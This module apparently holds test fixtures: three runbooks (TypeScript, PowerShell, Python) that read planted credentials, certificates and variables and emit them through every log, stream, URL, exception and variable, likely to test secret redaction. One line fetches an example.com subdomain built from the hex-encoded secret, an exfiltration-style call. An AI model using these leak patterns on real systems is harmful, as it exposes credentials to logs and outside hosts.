/** Runbooks that print every secret they can get, in every way that comes to mind. */

/** Names of the assets that hold a secret, and of a plain variable to copy one into. */
export const planted = 'planted';
export const copy = 'copy';

export const typescript = String.raw`
import { defineRunbook } from 'tenantry/runbook';
import { z } from 'zod';

export default defineRunbook({
  parameters: z.object({ pin: z.string().meta({ format: 'password' }) }),
  async run({ params, assets, log, step, runbooks }) {
    const certificate = await assets.certificate('planted');
    const secrets = [
      String(await assets.variable('planted')),
      (await assets.credential('planted')).password,
      (await assets.connection('planted')).Key ?? '',
      params.pin,
      Buffer.from(certificate.content).toString('base64'),
    ];
    for (const [at, secret] of secrets.entries()) {
      const bytes = Buffer.from(secret);
      log.output(secret);
      log.output(bytes.toString('base64'));
      log.output(Buffer.from('a' + secret + 'z').toString('base64') + ' ' + Buffer.from('ab' + secret).toString('base64url'));
      log.output(encodeURIComponent(secret) + ' ' + new URLSearchParams({ q: secret }).toString());
      log.output({ deep: [{ secret, json: JSON.stringify({ secret }) }], [secret]: at });
      log.output(bytes.toString('hex') + ' ' + bytes.toString('hex').toUpperCase());
      log.output(secret.slice(0, 5));
      log.output(secret.slice(5));
      for (const letter of secret.slice(0, 60)) log.output(letter);
      process.stdout.write('raw ' + secret.slice(0, 7));
      process.stdout.write(secret.slice(7) + '\n');
      process.stderr.write(secret + '\n');
      log.verbose(secret);
      log.warning('careful: ' + secret);
      log.debug(secret);
      log.error(new Error(secret));
      log.progress(secret.slice(0, 100), { status: secret, percentComplete: 50 });
      if (at < 4) {
        await step('step ' + secret, () => secret);
        for (const url of [
          'https://graph.microsoft.com/v1.0/' + encodeURIComponent(secret) + '?key=' + encodeURIComponent(secret),
          'https://' + Buffer.from(secret).toString('hex').slice(0, 60) + '.example.com/',
        ])
          await fetch(url).then((answer) => answer.text()).then((text) => log.output(text), (error) => log.error(error));
        await assets.setVariable('copy', { found: secret });
      }
    }
    if (runbooks !== undefined) await runbooks.start('quiet', { who: secrets.slice(0, 4).join(' ') });
    throw new Error('it was ' + secrets.slice(0, 4).join(' and '));
  },
});
`;

export const powershell = String.raw`
param([Parameter(Mandatory)] [SecureString] $Pin)
$pin = [Net.NetworkCredential]::new('', $Pin).Password
$certificate = Get-AutomationCertificate -Name planted
$secrets = @(
  [string](Get-AutomationVariable -Name planted)
  (Get-AutomationPSCredential -Name planted).GetNetworkCredential().Password
  [string](Get-AutomationConnection -Name planted).Key
  $pin
  [Convert]::ToBase64String($certificate.Export('Pfx'))
)
$VerbosePreference = 'Continue'; $DebugPreference = 'Continue'
foreach ($secret in $secrets) {
  $bytes = [Text.Encoding]::UTF8.GetBytes($secret)
  Write-Output $secret
  Write-Output ([Convert]::ToBase64String($bytes))
  Write-Output ([Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($secret)))
  Write-Output ([Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes("x$secret")))
  Write-Output ([BitConverter]::ToString($bytes))
  Write-Output ([Uri]::EscapeDataString($secret))
  Write-Output ([Net.WebUtility]::UrlEncode($secret))
  Write-Output (@{ secret = $secret; list = @($secret, 1) } | ConvertTo-Json -Compress)
  [pscustomobject]@{ Name = 'x'; Secret = $secret }
  Write-Output $secret.Substring(0, 6)
  Write-Output $secret.Substring(6)
  Write-Verbose $secret
  Write-Debug $secret
  Write-Warning "careful: $secret"
  Write-Information $secret
  Write-Host "$secret on the host"
  Write-Error $secret -ErrorAction Continue
  Write-Progress -Activity 'telling' -Status $secret
  [Console]::Out.Write("raw " + $secret + [Environment]::NewLine)
  [Console]::Error.WriteLine($secret)
}
foreach ($secret in $secrets[0..3]) {
  Invoke-Step -Name "step $secret" { $secret } | Out-Null
  try { Invoke-RestMethod "https://graph.microsoft.com/v1.0/$([Uri]::EscapeDataString($secret))" } catch { Write-Warning "$_" }
  Set-AutomationVariable -Name copy -Value $secret
}
throw "it was $($secrets[0..3] -join ' and ')"
`;

export const python = String.raw`
import base64, json, logging, sys, urllib.parse, urllib.request
import automationassets
import tenantry

certificate = automationassets.get_automation_certificate("planted")
secrets = [
    str(automationassets.get_automation_variable("planted")),
    automationassets.get_automation_credential("planted")["password"],
    automationassets.get_automation_connection("planted")["Key"],
    base64.b64encode(certificate).decode(),
]
for secret in secrets:
    data = secret.encode()
    print(secret)
    print(base64.b64encode(data).decode(), base64.urlsafe_b64encode(b"a" + data).decode(), base64.b64encode(b"ab" + data).decode())
    print(data.hex(), data.hex(":").upper(), data.hex(" "))
    print(urllib.parse.quote(secret, safe=""), urllib.parse.quote_plus(secret))
    print(json.dumps({"secret": secret, "again": json.dumps(secret)}))
    tenantry.output({"deep": [secret], secret: 1})
    print(secret[:6])
    print(secret[6:])
    sys.stdout.write("".join(secret[at] for at in range(len(secret))) + "\n")
    print(secret, file=sys.stderr)
    logging.warning("careful: %s", secret)
    logging.error(secret)
    tenantry.progress(secret[:100], secret, 50)
print(base64.encodebytes(certificate).decode())
for secret in secrets[:3]:
    tenantry.step("step " + secret, lambda: secret)
    try:
        urllib.request.urlopen("https://graph.microsoft.com/v1.0/" + urllib.parse.quote(secret, safe=""))
    except Exception as error:
        print(error)
    automationassets.set_automation_variable("copy", [secret])
raise RuntimeError("it was " + " and ".join(secrets[:3]))
`;
